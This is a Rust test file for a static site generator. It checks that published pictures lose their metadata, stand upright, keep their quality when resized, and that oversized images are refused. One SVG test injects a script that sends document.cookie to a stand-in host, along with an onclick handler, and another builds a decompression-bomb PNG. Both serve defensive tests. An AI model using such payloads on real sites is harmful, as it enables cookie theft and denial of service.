//! Published pictures: re-encoded without any metadata, turned upright,
//! bounded in size, and never decoded when they would exhaust memory.

mod common;

use std::path::Path;

use common::pictures::*;
use common::*;
use image::{GenericImageView, ImageDecoder};
use img_parts::{ImageEXIF, ImageICC};

const SITE_YAML: &str = "title: \"Site\"\nbase_url: \"https://test.example/\"\nlanguage: fr\n";

/// A testimonial bundle with `photo.jpg` (author photo, 3000×2000 stored,
/// orientation 6), `carte.png` and `atelier.webp` in its text; and a plain
/// page showing `content/img/plan.jpg`, a picture outside any bundle.
fn site_with_metadata(root: &Path) {
    write_skeleton(root, SITE_YAML);
    let bundle = root.join("content/temoignages/lea");
    write(
        &bundle.join("index.md"),
        "---\ntitle: \"Léa en stage\"\ndate: 2024-03-01\nauthor:\n  name: \"Léa\"\n  \
         photo: photo.jpg\n  photo_alt: \"Léa à son bureau\"\nconsent:\n  obtained: 2024-02-01\n  \
         minor: false\n---\nSa semaine.\n\n![Carte de la région](carte.png)\n\n\
         ![L'atelier](atelier.webp)\n",
    );
    jpeg_with_metadata(&bundle.join("photo.jpg"), 3000, 2000);
    png_with_metadata(&bundle.join("carte.png"), 600, 400);
    webp_with_metadata(&bundle.join("atelier.webp"), 300, 200);
    write(
        &root.join("content/a-propos.md"),
        "---\ntitle: \"À propos\"\n---\nLe lycée.\n\n![Plan du lycée](img/plan.jpg)\n",
    );
    jpeg_with_metadata(&root.join("content/img/plan.jpg"), 900, 600);
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

/// The test pictures really carry what the build must remove.
#[test]
fn test_pictures_carry_metadata_and_orientation() {
    let dir = tempfile::tempdir().unwrap();
    site_with_metadata(dir.path());
    let bundle = dir.path().join("content/temoignages/lea");
    for name in ["photo.jpg", "carte.png", "atelier.webp"] {
        let bytes = std::fs::read(bundle.join(name)).unwrap();
        for marker in [ARTIST, SERIAL, GPS_MARKER, XMP_WORD] {
            assert!(contains(&bytes, marker.as_bytes()), "{name}: {marker}");
        }
        let parts = img_parts::DynImage::from_bytes(bytes.clone().into())
            .unwrap()
            .unwrap();
        assert!(
            parts.exif().is_some() && parts.icc_profile().is_some(),
            "{name}"
        );
        let mut decoder = image::ImageReader::new(std::io::Cursor::new(&bytes))
            .with_guessed_format()
            .unwrap()
            .into_decoder()
            .unwrap();
        assert_eq!(
            decoder.orientation().unwrap(),
            image::metadata::Orientation::Rotate90,
            "{name}"
        );
    }
    let jpeg = std::fs::read(bundle.join("photo.jpg")).unwrap();
    assert!(contains(&jpeg, b"Exif\0\0") && contains(&jpeg, IPTC_MARKER));
}

#[test]
fn published_pictures_carry_no_metadata_and_stand_upright() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    site_with_metadata(root);
    build_ok(root);
    let out = root.join("public");

    // No output file holds anything of the metadata.
    let files = snapshot(&out);
    let mut pictures = Vec::new();
    for (path, bytes) in &files {
        let shown = path.display();
        for marker in [
            b"Exif\0\0".as_slice(),
            ARTIST.as_bytes(),
            SERIAL.as_bytes(),
            GPS_MARKER.as_bytes(),
            ICC_MARKER.as_bytes(),
            b"http://ns.adobe.com/xap",
            XMP_WORD.as_bytes(),
            IPTC_MARKER,
            IPTC_WORD.as_bytes(),
        ] {
            assert!(
                !contains(bytes, marker),
                "{shown} holds {:?}",
                String::from_utf8_lossy(marker)
            );
        }
        if let Ok(Some(picture)) = img_parts::DynImage::from_bytes(bytes.clone().into()) {
            assert!(picture.exif().is_none(), "{shown} has EXIF");
            assert!(
                picture.icc_profile().is_none(),
                "{shown} has an ICC profile"
            );
            pictures.push(path.to_string_lossy().to_string());
        }
    }
    // Each picture at most 1600 px wide, upright, with its narrower variants.
    assert_eq!(
        pictures,
        [
            "img/plan-320w.jpg",
            "img/plan.jpg",
            "temoignages/lea/atelier.webp",
            "temoignages/lea/carte-320w.png",
            "temoignages/lea/carte.png",
            "temoignages/lea/photo-1280w.jpg",
            "temoignages/lea/photo-320w.jpg",
            "temoignages/lea/photo-640w.jpg",
            "temoignages/lea/photo.jpg",
        ]
    );

    // Every published picture is upright: the red quarter is at the top right.
    for (name, stored_width) in [
        ("temoignages/lea/photo.jpg", 3000),
        ("temoignages/lea/photo-640w.jpg", 3000),
        ("temoignages/lea/carte.png", 600),
        ("temoignages/lea/atelier.webp", 300),
        ("img/plan.jpg", 900),
    ] {
        let img = image::open(out.join(name)).unwrap().to_rgb8();
        let (w, h) = img.dimensions();
        assert!(h > w, "{name} is {w}×{h}, not portrait");
        assert!(w <= 1600 && w <= stored_width, "{name} is {w} px wide");
        let red = |x: u32, y: u32| {
            let p = img.get_pixel(x, y);
            p[0] > 150 && p[2] < 100
        };
        assert!(red(w * 9 / 10, h / 10), "{name}: top right is not red");
        assert!(!red(w / 10, h / 10), "{name}: top left is red");
    }
    let (w, h) = image::image_dimensions(out.join("temoignages/lea/photo.jpg")).unwrap();
    assert_eq!((w, h), (1600, 2400));

    // The page gives the published picture's own size, in the img, the
    // srcset and og:image.
    let html = std::fs::read_to_string(out.join("temoignages/lea/index.html")).unwrap();
    let doc = scraper::Html::parse_document(&html);
    let photo = scraper::Selector::parse("img[src$='photo.jpg']").unwrap();
    let photos: Vec<_> = doc.select(&photo).collect();
    assert!(!photos.is_empty(), "{html}");
    for img in photos {
        let v = img.value();
        assert_eq!(v.attr("width"), Some("1600"), "{}", img.html());
        assert_eq!(v.attr("height"), Some("2400"), "{}", img.html());
        let srcset = v.attr("srcset").unwrap_or_default();
        assert!(
            srcset.ends_with("/temoignages/lea/photo.jpg 1600w"),
            "{srcset}"
        );
        assert!(srcset.contains("photo-1280w.jpg 1280w"), "{srcset}");
    }
    let og = scraper::Selector::parse("meta[property='og:image']").unwrap();
    let og: Vec<_> = doc
        .select(&og)
        .filter_map(|m| m.value().attr("content"))
        .collect();
    assert_eq!(og, ["https://test.example/temoignages/lea/photo.jpg"]);
    let body = scraper::Selector::parse("img[src$='carte.png']").unwrap();
    let carte = doc.select(&body).next().expect("carte.png shown");
    assert_eq!(
        (carte.value().attr("width"), carte.value().attr("height")),
        (Some("400"), Some("600"))
    );
    let about = std::fs::read_to_string(out.join("a-propos/index.html")).unwrap();
    assert!(
        about.contains("width=\"600\" height=\"900\""),
        "plan.jpg's size: {about}"
    );
}

#[test]
fn pictures_are_the_same_bytes_from_the_cache_and_a_stale_cache_is_not_used() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write_skeleton(root, SITE_YAML);
    write(
        &root.join("content/a-propos.md"),
        "---\ntitle: \"À propos\"\n---\n![Plan du lycée](img/plan.jpg)\n",
    );
    let source = root.join("content/img/plan.jpg");
    jpeg_with_metadata(&source, 900, 700);
    // What an earlier version cached for plan.jpg (its content hash, a
    // width): the settings changed since, so it must not be used.
    let hash = blake3::hash(&std::fs::read(&source).unwrap())
        .to_hex()
        .to_string();
    let cache = root.join(".vitrine-cache/images");
    std::fs::create_dir_all(&cache).unwrap();
    std::fs::write(cache.join(format!("{}-320.jpg", &hash[..32])), b"old").unwrap();
    build_ok(root);
    let first = snapshot(&root.join("public"));
    let variant = first
        .get(Path::new("img/plan-320w.jpg"))
        .expect("a variant");
    assert_ne!(variant.as_slice(), b"old");
    // Second build: from the cache; third: cache removed, encoded again.
    build_ok(root);
    assert!(
        snapshot(&root.join("public")) == first,
        "cached build differs"
    );
    std::fs::remove_dir_all(root.join(".vitrine-cache")).unwrap();
    build_ok(root);
    assert!(
        snapshot(&root.join("public")) == first,
        "fresh build differs"
    );
}

#[test]
fn a_heavy_photo_is_published_smaller_with_a_warning() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write_skeleton(root, SITE_YAML);
    write(
        &root.join("content/a-propos.md"),
        "---\ntitle: \"À propos\"\n---\n![Panorama du lycée](img/panorama.png)\n",
    );
    // 4 200 px wide: heavier than a web page needs.
    std::fs::create_dir_all(root.join("content/img")).unwrap();
    image::RgbImage::from_pixel(4200, 30, image::Rgb([10, 120, 200]))
        .save(root.join("content/img/panorama.png"))
        .unwrap();
    let (ok, stderr) = build_site(root);
    assert!(ok, "{stderr}");
    let warnings: Vec<&str> = stderr
        .lines()
        .filter(|l| l.starts_with("avertissement") && l.contains("[heavy-image]"))
        .collect();
    assert_eq!(warnings.len(), 1, "{stderr}");
    assert!(stderr.contains("content/img/panorama.png"), "{stderr}");
    assert!(stderr.contains("réduisez la photo"), "{stderr}");
    assert!(stderr.contains("4200 × 30"), "{stderr}");
    let (w, _) = image::image_dimensions(root.join("public/img/panorama.png")).unwrap();
    assert_eq!(w, 1600);

    // A light photo: no warning.
    image::RgbImage::from_pixel(1200, 30, image::Rgb([10, 120, 200]))
        .save(root.join("content/img/panorama.png"))
        .unwrap();
    let (ok, stderr) = build_site(root);
    assert!(ok && !stderr.contains("heavy-image"), "{stderr}");
}

/// An 11 000 × 11 000 grey PNG of zeros: about 120 KB on disk, 121 MB
/// once decoded, and some 350 MB while resized. Written row by row, so the
/// test itself stays small.
fn huge_png(path: &Path) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let file = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
    let mut encoder = png::Encoder::new(file, 11_000, 11_000);
    encoder.set_color(png::ColorType::Grayscale);
    encoder.set_depth(png::BitDepth::Eight);
    encoder.set_compression(png::Compression::Fast);
    encoder.set_filter(png::Filter::NoFilter);
    let mut writer = encoder.write_header().unwrap();
    let mut stream = writer.stream_writer().unwrap();
    let row = vec![0u8; 11_000];
    for _ in 0..11_000 {
        std::io::Write::write_all(&mut stream, &row).unwrap();
    }
    stream.finish().unwrap();
}

/// The data segment limit (`ulimit -d`, in KiB) the build runs under: a
/// decoded 11 000 × 11 000 picture cannot fit, a normal build easily does.
const MEMORY_LIMIT_KIB: u64 = 300 * 1024;

#[test]
fn a_huge_picture_is_reported_too_large_without_being_decoded() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write_skeleton(root, SITE_YAML);
    let bundle = root.join("content/temoignages/noir");
    write(
        &bundle.join("index.md"),
        "---\ntitle: \"Noir\"\ndate: 2024-03-01\nauthor:\n  name: \"Léa\"\nconsent:\n  \
         obtained: 2024-02-01\n---\n![Un carré noir](immense.png)\n",
    );
    let picture = bundle.join("immense.png");
    huge_png(&picture);
    assert!(std::fs::metadata(&picture).unwrap().len() < 2_000_000);

    // Under a memory limit: a build that decodes the picture is killed by
    // its failed allocation instead of exiting with 1.
    let binary = assert_cmd::cargo::cargo_bin("vitrine");
    let output = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "ulimit -d {MEMORY_LIMIT_KIB} && exec \"$0\" \"$@\""
        ))
        .arg(&binary)
        .arg("build")
        .arg("--root")
        .arg(root)
        .env("VITRINE_TODAY", TODAY)
        .env("LANG", "fr_FR.UTF-8")
        .env_remove("LC_ALL")
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(
        output.status.code(),
        Some(1),
        "{:?} {stderr}",
        output.status
    );
    assert!(stderr.contains("[bad-image]"), "{stderr}");
    assert!(
        stderr.contains("content/temoignages/noir/immense.png"),
        "{stderr}"
    );
    assert!(stderr.contains("trop grande"), "{stderr}");
    assert!(stderr.contains("11000 × 11000"), "{stderr}");
    assert!(!root.join("public").exists());

    // The same limit leaves room for an ordinary build.
    image::RgbImage::from_pixel(800, 600, image::Rgb([0, 0, 0]))
        .save(&picture)
        .unwrap();
    let status = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "ulimit -d {MEMORY_LIMIT_KIB} && exec \"$0\" \"$@\""
        ))
        .arg(&binary)
        .args(["build", "--quiet", "--root"])
        .arg(root)
        .env("VITRINE_TODAY", TODAY)
        .status()
        .unwrap();
    assert!(status.success());
}

/// Every marker of the test pictures' metadata.
const METADATA_MARKERS: [&[u8]; 5] = [
    b"Exif\0\0",
    ARTIST.as_bytes(),
    SERIAL.as_bytes(),
    GPS_MARKER.as_bytes(),
    XMP_WORD.as_bytes(),
];

/// A testimonial bundle `content/temoignages/julien/` whose `index.md`
/// has `front` (under `author:`) and `body`.
fn julien(root: &Path, photo: &str, body: &str) -> std::path::PathBuf {
    write_skeleton(root, SITE_YAML);
    let bundle = root.join("content/temoignages/julien");
    write(
        &bundle.join("index.md"),
        &format!(
            "---\ntitle: \"Julien en stage\"\ndate: 2024-03-01\nauthor:\n  name: \"Julien\"\n{photo}\
             consent:\n  obtained: 2024-02-01\n---\nSa semaine.\n\n{body}"
        ),
    );
    bundle
}

/// The first error whose header holds `word`, and the ` --> file:line:col`
/// line under it.
fn error_and_place<'a>(stderr: &'a str, word: &str) -> (&'a str, &'a str) {
    let lines: Vec<&str> = stderr.lines().collect();
    let i = lines
        .iter()
        .position(|l| l.starts_with("erreur") && l.contains(word))
        .unwrap_or_else(|| panic!("no error with {word}:\n{stderr}"));
    (lines[i], lines.get(i + 1).copied().unwrap_or(""))
}

#[test]
fn jpeg_under_any_of_its_extensions_is_published_without_metadata() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let bundle = julien(
        root,
        "  photo: IMG_0002.jfif\n  photo_alt: \"Julien\"\n",
        "![Le bureau](bureau.jpe)\n\n[La photo](x.jfif)\n\n![L'équipe](EQUIPE.JFIF)\n",
    );
    for name in ["IMG_0002.jfif", "bureau.jpe", "x.jfif", "EQUIPE.JFIF"] {
        jpeg_with_metadata(&bundle.join(name), 700, 500);
    }
    build_ok(root);
    let out = root.join("public/temoignages/julien");
    for name in ["IMG_0002.jfif", "bureau.jpe", "x.jfif", "EQUIPE.JFIF"] {
        let bytes = std::fs::read(out.join(name)).unwrap_or_else(|e| panic!("{name}: {e}"));
        for marker in METADATA_MARKERS {
            assert!(
                !contains(&bytes, marker),
                "{name} holds {:?}",
                String::from_utf8_lossy(marker)
            );
        }
        // Re-encoded, upright (stored 700 × 500, orientation 6), still JPEG.
        let img = image::load_from_memory_with_format(&bytes, image::ImageFormat::Jpeg).unwrap();
        assert_eq!((img.width(), img.height()), (500, 700), "{name}");
    }
}

#[test]
fn pictures_vitrine_cannot_clean_are_errors_at_the_line_that_uses_them() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let names = [
        "scan.tif",
        "plan.TIFF",
        "anim.gif",
        "IMG_0001.HEIC",
        "photo.heif",
        "photo.avif",
        "dessin.bmp",
    ];
    let body: String = names
        .iter()
        .enumerate()
        .map(|(i, n)| {
            if i % 2 == 0 {
                format!("![Image {i}]({n})\n\n")
            } else {
                format!("[Fichier {i}]({n})\n\n")
            }
        })
        .collect();
    let bundle = julien(root, "", &body);
    for name in names {
        // Real JPEG bytes with metadata: were it copied, it would leak.
        jpeg_with_metadata(&bundle.join(name), 40, 30);
    }
    let stderr = build_fails(root);
    let index = std::fs::read_to_string(bundle.join("index.md")).unwrap();
    for name in names {
        let line = index
            .lines()
            .position(|l| l.contains(name))
            .map(|i| i + 1)
            .unwrap();
        let at = format!("content/temoignages/julien/index.md:{line}:");
        let (error, place) = error_and_place(&stderr, name);
        assert!(error.ends_with("[unsupported-picture]"), "{error}");
        assert!(place.contains(&at), "{error} not at {at}: {place}");
    }
    assert_eq!(
        stderr
            .matches("convertissez-la en JPEG, PNG ou WebP")
            .count(),
        names.len(),
        "{stderr}"
    );
    assert!(!root.join("public").exists());
    // `check` says the same.
    let out = vitrine()
        .args(["check", "--root"])
        .arg(root)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
}

#[test]
fn a_testimonial_photo_vitrine_cannot_clean_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let bundle = julien(
        root,
        "  photo: IMG_0001.HEIC\n  photo_alt: \"Julien\"\n",
        "",
    );
    jpeg_with_metadata(&bundle.join("IMG_0001.HEIC"), 40, 30);
    let stderr = build_fails(root);
    assert!(
        stderr.contains("content/temoignages/julien/IMG_0001.HEIC")
            && stderr.contains("[unsupported-picture]")
            && stderr.contains("HEIC"),
        "{stderr}"
    );
}

const LOGO_SVG: &str = r##"<?xml version="1.0" encoding="UTF-8"?>
<!-- Dessiné par Ines Benali-Photographe -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
  xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/"
  viewBox="0 0 10 10" inkscape:export-filename="/home/ines/SN-4242-VITRINE.png">
  <metadata><rdf:RDF><dc:creator>xmp-vitrine-secret</dc:creator></rdf:RDF></metadata>
  <title>Logo</title>
  <rect width="10" height="10" fill="#c33"/>
</svg>
"##;

#[test]
fn an_svg_is_published_without_metadata_and_refused_with_a_script() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write_skeleton(root, SITE_YAML);
    write(
        &root.join("content/a-propos.md"),
        "---\ntitle: \"À propos\"\n---\n![Logo du lycée](logo.svg)\n",
    );
    write(&root.join("content/logo.svg"), LOGO_SVG);
    build_ok(root);
    let published = std::fs::read_to_string(root.join("public/logo.svg")).unwrap();
    for secret in [ARTIST, SERIAL, XMP_WORD, "/home/ines", "<metadata"] {
        assert!(!published.contains(secret), "{secret} in {published}");
    }
    assert!(published.contains("<rect width=\"10\" height=\"10\" fill=\"#c33\"/>"));

    let scripted = LOGO_SVG.replace(
        "<title>Logo</title>",
        "<title>Logo</title>\n  <script>fetch('https://pisteur.example/?'+document.cookie)</script>",
    );
    write(&root.join("content/logo.svg"), &scripted);
    let stderr = build_fails(root);
    let (error, place) = error_and_place(&stderr, "[unsafe-svg]");
    assert!(place.contains("content/logo.svg:8:"), "{place}");
    assert!(error.contains("script"), "{error}");
    let with_event = LOGO_SVG.replace("<rect ", "<rect onclick=\"alert(1)\" ");
    write(&root.join("content/logo.svg"), &with_event);
    let stderr = build_fails(root);
    assert!(stderr.contains("`onclick`"), "{stderr}");
}

/// Mean SSIM of two same-sized grey pictures over 8 × 8 windows (the
/// constants of Wang et al. 2004, for 8-bit values): 1 for identical
/// pictures, lower as structure, contrast or brightness differ.
fn ssim(a: &image::GrayImage, b: &image::GrayImage) -> f64 {
    assert_eq!(a.dimensions(), b.dimensions());
    let (c1, c2) = ((0.01f64 * 255.0).powi(2), (0.03f64 * 255.0).powi(2));
    let (mut total, mut windows) = (0.0, 0u32);
    for wy in (0..a.height() - 7).step_by(4) {
        for wx in (0..a.width() - 7).step_by(4) {
            let pixels = || (0..64).map(|i| (wx + i % 8, wy + i / 8));
            let mean = |img: &image::GrayImage| {
                pixels()
                    .map(|(x, y)| f64::from(img[(x, y)][0]))
                    .sum::<f64>()
                    / 64.0
            };
            let (ma, mb) = (mean(a), mean(b));
            let (mut va, mut vb, mut cov) = (0.0, 0.0, 0.0);
            for (x, y) in pixels() {
                let (da, db) = (f64::from(a[(x, y)][0]) - ma, f64::from(b[(x, y)][0]) - mb);
                va += da * da / 63.0;
                vb += db * db / 63.0;
                cov += da * db / 63.0;
            }
            total += (2.0 * ma * mb + c1) * (2.0 * cov + c2)
                / ((ma * ma + mb * mb + c1) * (va + vb + c2));
            windows += 1;
        }
    }
    total / f64::from(windows)
}

/// The SSIM a published size must reach against a careful resize.
const SAME_LOOK: f64 = 0.98;

/// The bar means something: identical pictures score 1, a nearest-pixel
/// resize (aliased noise, jagged edges) and a careful one shifted by one
/// pixel fall below it.
#[test]
fn a_careless_resize_falls_below_the_ssim_bar() {
    let photo = image::DynamicImage::ImageRgb8(photo_like(1600, 1200, 3));
    let resize = |filter| photo.resize_exact(400, 300, filter).to_luma8();
    let careful = resize(image::imageops::FilterType::Lanczos3);
    assert!((ssim(&careful, &careful) - 1.0).abs() < 1e-9);
    let nearest = ssim(&careful, &resize(image::imageops::FilterType::Nearest));
    let crop = |x, y| image::imageops::crop_imm(&careful, x, y, 399, 299).to_image();
    let shifted = ssim(&crop(0, 0), &crop(1, 1));
    assert!(nearest < SAME_LOOK, "nearest: {nearest}");
    assert!(shifted < SAME_LOOK, "shifted: {shifted}");
}

/// A 4000 × 3000 photo is decoded at reduced scale and each variant made
/// from the next larger one: every published size still looks like the
/// reference, a Lanczos3 resize of the fully decoded photo saved as JPEG at
/// the site's quality (what vitrine published before; without that last
/// step the JPEG encoding alone, the same for both, scores 0.95 at 1600 px
/// on this noisy picture). And against the unsaved resize it loses no more
/// than the reference does. Whether the photo's colour was saved at half
/// resolution (phones: 4:2:0) or full (4:4:4).
#[test]
fn each_size_of_a_large_photo_looks_like_a_full_resize() {
    let pixels = photo_like(4000, 3000, 7);
    for (saved, jpeg) in [
        ("4:2:0", phone_jpeg(&pixels)),
        ("4:4:4", jpeg_at(&pixels, 90)),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write_skeleton(root, SITE_YAML);
        write(
            &root.join("content/a-propos.md"),
            "---\ntitle: \"À propos\"\n---\n![La cour du lycée](img/cour.jpg)\n",
        );
        std::fs::create_dir_all(root.join("content/img")).unwrap();
        std::fs::write(root.join("content/img/cour.jpg"), &jpeg).unwrap();
        build_ok(root);
        let full = image::load_from_memory(&jpeg).unwrap();
        for (name, width) in [
            ("cour.jpg", 1600),
            ("cour-1280w.jpg", 1280),
            ("cour-640w.jpg", 640),
            ("cour-320w.jpg", 320),
        ] {
            let published = image::open(root.join("public/img").join(name)).unwrap();
            let height = width * 3 / 4;
            assert_eq!(published.dimensions(), (width, height), "{saved} {name}");
            let resized = full
                .resize_exact(width, height, image::imageops::FilterType::Lanczos3)
                .to_rgb8();
            let reference = image::load_from_memory(&jpeg_at(&resized, 80)).unwrap();
            let [published, reference, resized] =
                [published, reference, resized.into()].map(|p| p.to_luma8());
            let score = ssim(&published, &reference);
            assert!(score >= SAME_LOOK, "{saved} {name}: SSIM {score}");
            let (ours, theirs) = (ssim(&published, &resized), ssim(&reference, &resized));
            assert!(ours > theirs - 0.005, "{saved} {name}: {ours} < {theirs}");
        }
    }
}

/// `pixels` saved by the image crate's JPEG encoder (colour at full
/// resolution) at `quality`.
fn jpeg_at(pixels: &image::RgbImage, quality: u8) -> Vec<u8> {
    let mut bytes = Vec::new();
    pixels
        .write_with_encoder(image::codecs::jpeg::JpegEncoder::new_with_quality(
            &mut bytes, quality,
        ))
        .unwrap();
    bytes
}

/// What a phone or an editor adds to a picture beyond EXIF, XMP and IPTC:
/// PNG text chunks and a save time, a JPEG comment, bytes after the end.
const TEXT_GPS: &str = "GPS 45.7612 N 4.8345 E cour du lycee";
const COMMENT: &str = "vitrine-comment-secret";
const TRAILER: &str = "vitrine-trailer-secret";

fn png_chunk_after_header(path: &Path, kind: [u8; 4], contents: &[u8]) {
    let bytes = std::fs::read(path).unwrap();
    let mut png = img_parts::png::Png::from_bytes(bytes.into()).unwrap();
    let chunk = img_parts::png::PngChunk::new(kind, contents.to_vec().into());
    png.chunks_mut().insert(1, chunk);
    std::fs::write(path, png.encoder().bytes()).unwrap();
}

fn decoded(bytes: &[u8]) -> image::RgbaImage {
    image::load_from_memory(bytes).unwrap().to_rgba8()
}

/// Issue #16 review: a logo and any picture of `static/` are published as
/// they are, so their metadata went with them. Now it is cut out, pixels
/// untouched (no re-encoding), with the colour profile and the orientation.
#[test]
fn pictures_of_static_lose_their_metadata_but_not_a_pixel() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write_skeleton(
        root,
        &format!("{SITE_YAML}identity:\n  logo: logo.png\n  logo_alt: \"Lycée\"\n"),
    );
    let logo = root.join("static/logo.png");
    png_with_metadata(&logo, 120, 60);
    png_chunk_after_header(&logo, *b"tEXt", format!("Location\0{TEXT_GPS}").as_bytes());
    png_chunk_after_header(&logo, *b"tIME", &[7, 234, 12, 2, 16, 30, 0]);
    let photo = root.join("static/img/equipe.jpg");
    jpeg_with_metadata(&photo, 300, 200);
    let mut jpeg =
        img_parts::jpeg::Jpeg::from_bytes(std::fs::read(&photo).unwrap().into()).unwrap();
    let comment = img_parts::jpeg::JpegSegment::new_with_contents(
        img_parts::jpeg::markers::COM,
        COMMENT.as_bytes().to_vec().into(),
    );
    jpeg.segments_mut().insert(1, comment);
    let mut with_trailer = jpeg.encoder().bytes().to_vec();
    with_trailer.extend_from_slice(TRAILER.as_bytes());
    std::fs::write(&photo, &with_trailer).unwrap();
    webp_with_metadata(&root.join("static/img/atelier.webp"), 90, 60);

    build_ok(root);
    for name in ["logo.png", "img/equipe.jpg", "img/atelier.webp"] {
        let source = std::fs::read(root.join("static").join(name)).unwrap();
        let published = std::fs::read(root.join("public").join(name)).unwrap();
        for secret in [
            ARTIST, SERIAL, GPS_MARKER, XMP_WORD, IPTC_WORD, TEXT_GPS, COMMENT, TRAILER,
        ] {
            assert!(!contains(&published, secret.as_bytes()), "{name}: {secret}");
        }
        assert_eq!(decoded(&published), decoded(&source), "{name}: pixels");
        let parts = img_parts::DynImage::from_bytes(published.clone().into())
            .unwrap()
            .unwrap();
        assert!(parts.icc_profile().is_some(), "{name}: colour profile");
        let orientation = parts
            .exif()
            .and_then(|exif| image::metadata::Orientation::from_exif_chunk(&exif));
        assert_eq!(
            orientation,
            Some(image::metadata::Orientation::Rotate90),
            "{name}"
        );
    }
    let png = std::fs::read(root.join("public/logo.png")).unwrap();
    for chunk in [b"tEXt", b"tIME", b"iTXt"] {
        assert!(!contains(&png, chunk), "{chunk:?}");
    }
}

/// A file of `static/` named as a picture that is none (or a damaged one)
/// cannot be cleaned: an error at the file, never copied with its metadata.
#[test]
fn a_static_picture_that_cannot_be_read_is_an_error_at_its_file() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write_skeleton(root, SITE_YAML);
    let photo = root.join("static/img/equipe.jpg");
    jpeg_with_metadata(&photo, 300, 200);
    let bytes = std::fs::read(&photo).unwrap();
    std::fs::write(&photo, &bytes[..300]).unwrap();
    let stderr = build_fails(root);
    assert!(stderr.contains("static/img/equipe.jpg"), "{stderr}");
    assert!(stderr.contains("JPEG"), "{stderr}");
    assert!(!root.join("public/img/equipe.jpg").exists());
}
